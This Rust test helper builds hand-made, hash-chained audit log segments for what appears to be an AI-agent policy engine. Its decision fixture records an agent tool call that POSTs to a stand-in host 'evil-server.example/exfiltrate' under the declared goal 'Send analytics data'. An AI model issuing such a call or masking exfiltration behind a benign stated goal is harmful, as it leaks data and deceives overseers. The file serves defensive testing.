//! Logs written by hand: chained as ours are, and saying whatever an attacker might.

#![allow(dead_code, clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

use std::fs::{self, File};
use std::io::{BufWriter, Write};
use std::path::{Path, PathBuf};

use maais_audit::LeafHash;
use serde_json::{Value, json};

pub(crate) struct Handmade {
    pub(crate) home: PathBuf,
    slot: u32,
    origin: String,
    next: u64,
    prev: LeafHash,
    file: BufWriter<File>,
}

impl Handmade {
    pub(crate) fn new(home: &Path, slot: u32, origin: &str) -> Self {
        let dir = home.join(format!("log/{slot}/seg"));
        fs::create_dir_all(&dir).unwrap();
        fs::write(home.join(format!("log/{slot}/origin")), origin).unwrap();
        let mut log = Self {
            home: home.to_owned(),
            slot,
            origin: origin.to_owned(),
            next: 0,
            prev: LeafHash::ZERO,
            file: BufWriter::new(tempfile::tempfile().unwrap()),
        };
        log.new_segment();
        log
    }

    pub(crate) fn segment(&self, first: u64) -> PathBuf {
        self.home.join(format!("log/{}/seg/{first:020}.jsonl", self.slot))
    }

    pub(crate) fn new_segment(&mut self) {
        self.file.flush().unwrap();
        self.file = BufWriter::new(File::create(self.segment(self.next)).unwrap());
    }

    pub(crate) fn append(&mut self, time: &str, tenant: &str, mut body: Value) -> String {
        let map = body.as_object_mut().unwrap();
        map.insert("_log".into(), self.origin.clone().into());
        map.insert("_prev".into(), self.prev.to_string().into());
        map.insert("_seq".into(), self.next.into());
        map.insert("_tenant".into(), tenant.into());
        map.insert("_time".into(), time.into());
        let line = body.to_string();
        self.raw(line.as_bytes());
        self.prev = LeafHash::of(line.as_bytes());
        self.next += 1;
        line
    }

    pub(crate) fn raw(&mut self, line: &[u8]) {
        self.file.write_all(line).unwrap();
        self.file.write_all(b"\n").unwrap();
    }

    pub(crate) fn flush(&mut self) {
        self.file.flush().unwrap();
    }
}

/// A decision as the engine records it, about 1.2 KB.
pub(crate) fn decision(agent: &str, target: &str, effect: &str, policy: &str, reason: &str) -> Value {
    json!({
        "_mode": "durable", "_session": "s-1", "_tenant_seq": 7, "_tenant_prev": LeafHash::ZERO.to_string(),
        "type": "decision",
        "decision": {
            "accountability_owner": "system_admin", "allow": effect == "ALLOW", "effect": effect,
            "explanation": reason, "policy_id": policy, "timestamp": "2026-11-23T14:44:36.570309966Z",
            "ciaa_violations": {},
            "metadata": {
                "degraded": [], "tenant": "default",
                "snapshot": "sha256:9e797a58fcfeea36ef8e9b16ec0d70774e4169f8a376a15164eac69b8ce92067",
                "findings": [{"effect": effect, "id": policy, "ids": ["T1567.002", "AML.T0086", "LLM06"],
                    "message": reason, "severity": "high", "source": "policy"}],
            },
        },
        "request": {
            "action_id": "01a208dd-b25a-71ac-a8fc-a029516bce48", "action_type": "tool_call", "agent_id": agent,
            "context": {}, "declared_goal": "Send analytics data", "target": target,
            "parameters": {"method": "POST", "url": "https://evil-server.example/exfiltrate"},
            "timestamp": "2026-11-23T14:44:36.570272621Z",
        },
        "state": {"exceeded": []},
    })
}

/// A time that many milliseconds after a fixed one.
pub(crate) fn time(milliseconds: i64) -> String {
    jiff::Timestamp::from_millisecond(1_790_000_000_000 + milliseconds).unwrap().to_string()
}
